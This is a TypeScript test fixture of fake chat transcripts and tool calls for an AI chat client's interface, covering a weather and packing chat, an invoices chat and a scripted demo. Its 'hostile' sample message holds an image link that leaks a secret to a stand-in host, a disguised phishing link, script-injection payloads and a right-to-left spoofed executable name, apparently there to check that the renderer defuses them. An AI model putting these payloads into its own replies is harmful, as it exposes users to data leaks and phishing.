// The chats of the fake host as they are read.
import type { CallBody, EntryBody, EntryView } from "../bindings";
import { NOW } from "./data";

const FORECAST = {
  city: "Oslo",
  days: [
    { day: "Fri", high: 9, low: 4, sky: "rain" },
    { day: "Sat", high: 8, low: 3, sky: "rain" },
    { day: "Sun", high: 7, low: 2, sky: "dry" },
  ],
};

const text = (value: string): CallBody & { state: "answered" } => ({
  ...call("weather", "s-weather", "get_forecast", { city: "Oslo", days: 3 }),
  because: [{ why: "rule", rule: "r-1", scope: "always" }],
  state: "answered",
  elapsed_ms: 240,
  result: {
    content: [
      { type: "text", text: value },
      { type: "text", text: JSON.stringify(FORECAST) },
    ],
    structured: FORECAST,
    failed: false,
    misfits: [],
    unchecked: null,
    cut_bytes: 0,
    model_cut_bytes: 0,
  },
});

function call(server_name: string, id: string, name: string, given: Record<string, unknown>) {
  return {
    call: `call-${name}`,
    called_as: `${server_name}__${name}`,
    server: id,
    server_name,
    tool: name,
    arguments: given,
    edited: false,
    because: [],
  };
}

const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC";

const OSLO = `Light rain and around **8 °C**, so layers and something waterproof.

| Day | High | Low | Rain |
|---|--:|--:|--:|
| Friday | 9 °C | 4 °C | 2 mm |
| Saturday | 8 °C | 3 °C | 6 mm |
| Sunday | 7 °C | 2 °C | 0 mm |

Your note *Packing 2024* repeats most of this. I'd replace it with the new list:

1. Rain jacket and a warm layer
2. Shoes that may get wet
   - the brown ones, not the \`canvas\` pair
3. Charger, adapter not needed

> The forecast is from [yr.no](https://www.yr.no/en/forecast/daily-table/1-72837/Norway/Oslo) and changes twice a day.`;

const HOSTILE = `Here is what the page says. ![chart](https://collect.example.net/p.png?d=secret) Read [https://bank.example.com](https://evil.example.net/login) now.

<img src=x onerror=alert(1)> <script>alert(2)</script>

- [ ] call me: [click][1]
- [x] done\u202Egnp.exe

\`\`\`python
def area(radius: float) -> float:
    """Exact text: l 1 I O 0, -> != >="""
    return 3.14159 * radius ** 2
\`\`\`

[1]: javascript:alert(3)`;

function entries(chat: string, bodies: EntryBody[]): EntryView[] {
  return bodies.map((body, index) => ({
    id: `${chat}-${index}`,
    chat,
    position: index,
    at_ms: NOW - (bodies.length - index) * 20_000,
    body,
  }));
}

const said = (value: string, rest: Partial<Extract<EntryBody, { kind: "assistant" }>> = {}): EntryBody => ({
  kind: "assistant",
  text: value,
  reasoning: "",
  model: "llama3.1 · Ollama",
  scripted: false,
  state: "done",
  ...rest,
});

export const transcripts: Record<string, EntryView[]> = {
  oslo: entries("oslo", [
    {
      kind: "user",
      text: "What should I pack for three days in Oslo? Tidy my old packing note while you're at it.",
      attachments: [],
    },
    { kind: "call", ...text("Oslo, 3 days\nFri 9/4 °C, rain 2 mm\nSat 8/3 °C, rain 6 mm\nSun 7/2 °C, dry") },
    {
      kind: "call",
      ...call("files", "s-files", "search_files", { path: "/home/ada/Travel", pattern: "packing*.md" }),
      because: [{ why: "person", scope: "chat" }],
      state: "running",
      since_ms: NOW - 4000,
      progress: { done: 62, total: 100, message: "searching ~/Travel/2024" },
    },
    said(OSLO, {
      reasoning: "The person wants a packing list and a cleaned-up note. First the forecast, then the note.",
      usage: { input: 6_140, output: 402, cached: 4_096, cost: null, currency: "USD", estimated: false },
    }),
    {
      kind: "call",
      ...call("notes", "s-notes", "delete_page", { page: "Packing 2024", permanently: true }),
      because: [{ why: "floor", floor: "claims_destructive" }],
      state: "waiting",
      question: "q-delete",
    },
  ]),
  invoices: entries("invoices", [
    { kind: "user", text: "Add up the invoices of the third quarter.", attachments: [] },
    {
      kind: "call",
      ...call("files", "s-files", "read_file", { path: "/home/ada/Documents/Invoices 2026/july.csv" }),
      because: [{ why: "person", scope: "once" }],
      state: "answered",
      elapsed_ms: 1430,
      result: {
        content: [
          { type: "text", text: "date,amount\n2026-07-02,120.00\n2026-07-19,88.50" },
          { type: "image", mime: "image/png", base64: PIXEL },
          {
            type: "link",
            uri: "file:///home/ada/Documents/Invoices%202026/july.csv",
            name: "july.csv",
            description: "The whole file",
          },
          { type: "resource", uri: "memo://totals", mime: "application/octet-stream", text: null, bytes: 20480 },
        ],
        structured: { rows: 2, total: 208.5 },
        failed: false,
        misfits: ['"total" should be text'],
        unchecked: null,
        cut_bytes: 51_200,
        model_cut_bytes: 0,
      },
    },
    {
      kind: "call",
      ...call("files", "s-files", "write_file", { path: "/home/ada/total.txt", content: "208.50" }),
      because: [],
      state: "refused",
      by: "person",
      reason: "Only tell me, do not write files.",
    },
    {
      kind: "call",
      ...call("deploy", "s-deploy", "report", {}),
      state: "failed",
      problem: { problem: "call_timed_out", seconds: 60 },
    },
    {
      kind: "tools_left_out",
      tools: [
        {
          server: "s-deploy",
          server_name: "deploy",
          tool: "report",
          reason: { why: "invalid_schema", detail: '"strnig" is not a type' },
        },
        {
          server: "s-files",
          server_name: "files",
          tool: "write_file",
          reason: { why: "not_read", detail: "its definition has 70000 bytes" },
        },
        {
          server: "s-files",
          server_name: "files",
          tool: "read_file",
          reason: { why: "no_room", most: 128, kilobytes: 256 },
        },
      ],
      more: 12,
    },
    said("The third quarter comes to **208.50**.", { state: "stopped" }),
    {
      kind: "failure",
      problem: { problem: "model_unreachable", endpoint: "http://localhost:11434/v1", detail: "connection refused" },
      retryable: true,
    },
  ]),
  hostile: entries("hostile", [{ kind: "user", text: "What does it say?", attachments: [] }, said(HOSTILE)]),
  zh: entries("zh", [
    { kind: "user", text: "帮我计划妈妈的生日。", attachments: [] },
    said("好的。我是演示模式：一段脚本，不是人工智能。\n\n- 周六中午聚餐\n- 下午去植物园\n\n需要我查一下**天气**吗？", {
      model: "Rehearsal",
      scripted: true,
    }),
  ]),
};

const PARAGRAPH = "The **old** harbour is a *short* walk from the [station](https://example.org/map), past `quay 4`. ";

/** An answer of about one kilobyte. */
const answerOf = (number: number) =>
  `Answer ${number}.\n\n${PARAGRAPH.repeat(6)}\n\n- first\n- second\n- third\n\n| Day | High |\n|---|--:|\n| Friday | 9 |\n`;

/** A chat of so many entries: a message, a call and an answer in turn, with a picture in each of the first 40 calls. */
export function longChat(chat: string, count: number): EntryView[] {
  const body = (number: number): EntryBody => {
    if (number % 3 === 0) return { kind: "user", text: `Message ${number}`, attachments: [] };
    if (number % 3 === 2) return said(answerOf(number));
    const answered = text(`Result ${number}`);
    if (number < 120) answered.result.content.push({ type: "image", mime: "image/png", base64: PIXEL });
    return { kind: "call", ...answered };
  };
  return entries(
    chat,
    Array.from({ length: count }, (_, number) => body(number)),
  );
}
